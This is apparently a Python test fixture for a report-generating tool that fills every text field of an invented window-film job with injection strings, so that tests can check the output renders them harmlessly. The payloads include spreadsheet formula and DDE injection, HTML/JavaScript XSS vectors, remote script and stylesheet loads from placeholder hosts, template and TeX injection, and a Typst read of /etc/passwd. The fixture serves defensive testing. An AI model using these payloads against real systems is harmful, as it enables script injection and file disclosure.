"""An invented job with text in every field that takes any, each made to mean something to some program.

A text holds what a browser, Typst, a template, Markdown, MathJax, TeX or a style sheet would run, fetch or
drop; its beginning a spreadsheet would take for a formula. Each has its own mark, ``k7k``, to be found again.
"""

import csv
import io
import json
import re
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from reportkit.app.run import make
from reportkit.base.visible import visible
from reportkit.study import rooms

JOBS = Path(__file__).parent.parent / "jobs"

#: How many samples stand behind a room's ranges: what is printed is what counts here.
FEW = 16

#: What sets the flag that a test looks for, wherever it runs.
RUN = "top.ran=(top.ran||0)+1"

#: How texts begin, in turn: what spreadsheets take for a formula (OWASP, "CSV injection", from memory).
BEGINNINGS = (
    '=HYPERLINK("http://KEY.invalid/","win")', "+cmd|' /C calc'!A0", "@SUM(1+1)*KEY", "-2+3", "=1+1",
    '=WEBSERVICE("http://KEY.invalid/")', "\uff1d1+1",
)  # fmt: skip

#: What turns text round and what hides, at the end of each text (UAX #9, U+202E and U+2067; U+200B, U+FEFF).
HIDDEN = "10.\u202e001 a\u200bb \u2067c\ufeff."

#: What follows, two of each in a text.
MIDDLE = (
    """"'><script>RUN</script><img src=x onerror="RUN"><svg/onload=RUN><a href=javascript:RUN>""",
    """</title></style></script><script src=//KEY.invalid/s.js></script><!-- ><iframe srcdoc='<b>'>""",
    """<a href='data:text/html,<script>RUN</script>'>[li](javascript:RUN) ![i](//KEY.invalid/i) `c` **b**""",
    r"""{{ 7*7 }}{% raw %}{#c#}{key}${RUN}$\frac{1}{2}$ $$x$$ \(y\) \input{x} \href{//KEY.invalid}{t}""",
    """#include "x.typ" #eval("1+1") #read("/etc/passwd") #panic("x") @ref <label> = h // /* */ *b* _u_ ~""",
    """*/}body{background:url(//KEY.invalid/b)}@import url(//KEY.invalid/c); <style>*{}</style>""",
    """&lt;b&gt; &amp; &#x3c;script&#x3e; <b onmouseover=RUN style=x:y>x</b> <math><mi href=//KEY.invalid>""",
    """onload=RUN autofocus onfocus=RUN <base href=//KEY.invalid> <meta http-equiv=refresh content=0>""",
    """<link rel=stylesheet href=//KEY.invalid/e.css><object data=//KEY.invalid/f><embed>""",
)  # fmt: skip


class Texts:
    """Texts made one after another; ``made`` holds each by its mark, as it is to be seen."""

    def __init__(self) -> None:
        self.made: dict[str, str] = {}

    def __call__(self, longest: int = 4000) -> str:
        """Return another text, in short where a field takes no more."""
        number = len(self.made)
        key = f"k{number}k"
        start = BEGINNINGS[number % len(BEGINNINGS)]
        # two of the kinds in each, so that each stands in several fields and none is too long for a label
        parts = [MIDDLE[(number + step) % len(MIDDLE)] for step in (0, 4)]
        text = f"{start} {key} {' '.join(parts)} {HIDDEN}".replace("RUN", RUN).replace("KEY", key)
        if len(text) > longest:
            text = f"={key}<b>$1$"
        assert len(text) <= longest
        self.made[key] = visible(text)
        return text


def job(text: Any) -> dict[str, Any]:
    """Return the job with what ``text`` returns in each of its free texts, but for names of files."""
    rated = {
        "solar_transmittance_percent": "38",
        "solar_reflectance_glass_side_percent": "9",
        "visible_transmittance_percent": "42",
        "visible_reflectance_glass_side_percent": "9",
    }
    way = text()
    return {
        "id": "a-job",
        "title": text(),
        "invented": "yes",
        "units": "metric",
        "currency": "USD",
        "locale": "en_US",
        "rating": "nfrc",
        "site": {
            "place": text(),
            "latitude": "41",
            "longitude": "12",
            "elevation_m": "50",
            "clock": "Europe/Rome",
        },
        "weather": {
            "use": "normals",
            "normals": {
                "source": text(),
                "mean_c": [8, 9, 11, 14, 18, 22, 25, 25, 21, 17, 12, 9],
                "daily_range_k": [8] * 12,
                "sun_kwh_m2_day": [1.9, 2.7, 3.9, 5, 6.1, 6.7, 6.8, 5.9, 4.5, 3.1, 2, 1.6],
            },
        },
        "complaint": {"text": text(), "kinds": ["heat", "glare", "bills"], "room": "office"},
        "client": {"name": text(), "address": [text(), text()], "contact": text()},
        "business": {"name": text(), "address": [text()], "contact": text(), "tax_number": text()},
        "quote": {
            "number": text(),
            "date": "2026-03-10",
            "terms": [text()],
            "warranty": [text()],
            "extras": [{"text": text(), "quantity": "2", "unit": text(20), "price": "80"}],
            "discount": {"percent": "5", "reason": text()},
        },
        "status": {
            "offered": [{"date": "2026-03-11"}],
            "accepted": {"date": "2026-03-12", "way": way, "note": text()},
        },
        "survey": {"measured_by": text(), "measured_on": "2026-02-20"},
        "rooms": [
            {
                "id": "office",
                "name": text(),
                "heat": {
                    "floor_area": "24 m2",
                    "cooling": {"set_point": "25 C"},
                    "heating": {"set_point": "20 C", "fuel": "oil"},
                },
            },
            {"id": "store", "name": text()},
        ],
        "faces": [
            {"id": "west", "name": text(), "bearing": "265"},
            {"id": "south", "name": text(), "bearing": "180"},
        ],
        "glazings": [
            {"id": "one", "name": text(), "note": text(), "lites": [{"thickness_mm": "4"}]},
            {"id": "wired", "name": text(), "lites": [{"thickness_mm": "6", "strength": "wired"}]},
        ],
        "approvals": [
            {"film": "grey", "glazing": "wired", "by": text(), "date": "2026-02-20", "file": "L1.jpg"}
        ],
        "films": [
            {
                "id": name,
                "name": text(),
                "note": text(),
                "film_class": kind,
                "invented": "yes",
                "thickness_um": "50",
                "rated": rated,
                "spec": "UV transmittance 1 %",
                "rolls": [{"width": "1524 mm", "length": "30 m", "price_per_m": price, "step": "500 mm"}],
                "priced_on": "2026-01-12",
            }
            for name, kind, price in (("grey", "ceramic", "28"), ("silver", "dual_reflective", "40"))
        ],
        "alternatives": [{"name": way, "films": {"job": "silver"}}],
        "choice": {"job": "grey"},
        "fitting": {"date": "2026-04-20"},
        "prices": {
            "labour_per_hour": "40",
            "margin_percent": "25",
            "travel": "30",
            "tax": {"name": text(), "percent": "20"},
            "dated": "2026-01-12",
        },
        "energy": {
            "electricity": {
                "periods": [
                    {"name": text(), "rate": "0.5", "months": ["6", "7", "8"], "hours": ["12", "18"]},
                    {"name": text(), "rate": "0.2"},
                ],
                "demand": [{"name": text(), "rate_per_kw": "9"}],
            },
            "fuels": [{"id": "oil", "rate": "1", "unit": text(), "kwh_per_unit": "10"}],
        },
        "shades": [{"kind": "outside_screen", "price": "900"}],
    }  # fmt: skip


def decisions(text: Any) -> dict[str, Any]:
    """Return what was decided, as ``decisions.yaml`` holds it."""
    one = {"date": "2026-03-05", "who": text(), "films": {"job": "grey", "panes": {"C": "none"}}}
    return {"decisions": [one | {"panes_out": {"C": text()}, "overrides": text(), "note": text()}]}


def tables(text: Any) -> dict[str, list[dict[str, str]]]:
    """Return the rows of the survey and of the readings."""
    panes = (
        ("A", "office", "west", "one"),
        ("B", "office", "south", "wired"),
        ("C", "store", "south", "one"),
    )
    survey = [
        {"id": name, "room": room, "face": face, "glazing": glazing, "width": "1000 mm", "height": "1250 mm"}
        | {"sill": "600 mm", "frame": "metal", "note": text()}
        for name, room, face, glazing in panes
    ]
    survey[0]["photo"] = "L1.jpg"
    readings = [
        {"time": f"2026-04-24 12:{minute}", "meter": "light", "pane": "A", "filmed": filmed, "beside": "open"}
        | {"bare": bare, "note": text()}
        for minute, filmed, bare in (
            ("10", "16900", "45300"),
            ("20", "17100", "45700"),
            ("30", "17000", "45500"),
        )
    ]
    return {"windows.csv": survey, "readings.csv": readings}


def write(folder: Path, text: Any) -> Path:
    """Write the job into a folder and return that."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(JOBS / "harbour-house" / "photos" / "L1.jpg", folder)
    (folder / "job.yaml").write_text(json.dumps(job(text), ensure_ascii=False), "utf-8")
    (folder / "decisions.yaml").write_text(json.dumps(decisions(text), ensure_ascii=False), "utf-8")
    for name, rows in tables(text).items():
        out = io.StringIO()
        table = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
        table.writeheader()
        table.writerows(rows)
        (folder / name).write_text(out.getvalue(), "utf-8")
    return folder


#: Words that no line is long enough for: wide letters, long words, an address.
LONG = (
    "W" * 80,
    "Ga" * 150,
    "https://" + "files.example/" * 12 + "q?" + "m" * 60,
    "Donau" + "dampf" * 9 + " mbH",
)


class Longs(Texts):
    """Texts of one long word each."""

    def __call__(self, longest: int = 4000) -> str:
        """Return another text of one long word, as long as a field takes."""
        key = f"k{len(self.made)}k"
        self.made[key] = (key + LONG[len(self.made) % len(LONG)])[:longest]
        return self.made[key]


@dataclass(frozen=True)
class Made:
    """A job, its texts by their marks, and its runs: of an offer, and of a review."""

    folder: Path
    texts: dict[str, str]
    runs: tuple[Path, Path]

    def documents(self, ending: str) -> list[Path]:
        """Return the documents of one kind of file."""
        offer, review = self.runs
        return [*sorted(offer.glob(f"*.{ending}")), review / f"review.{ending}"]


def made_once(once: Any, kind: type[Texts]) -> Made:
    """Return the job with texts of a kind and what was made of it, once for all tests of a run."""

    def make_it() -> Made:
        texts = kind()
        folder = write(Path(tempfile.mkdtemp(dir=once.folder)) / "job", texts)
        if kind is Longs:  # the longest that a short name may be, and none shorter beside it
            for name in ("windows.csv", "readings.csv"):
                path = folder / name
                path.write_text(
                    re.sub(r"(?m)(^|,)A,", rf"\g<1>A{'W' * 59},", path.read_text("utf-8")), "utf-8"
                )
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(rooms, "SAMPLES", FEW)
            return Made(folder, texts.made, (make(folder), make(folder, documents=("review",))))

    return once.get(f"hostile-{kind.__name__}", make_it)


def squeezed(text: str) -> str:
    """Return a text without its spaces, as lines broken on paper are compared."""
    return "".join(text.split())
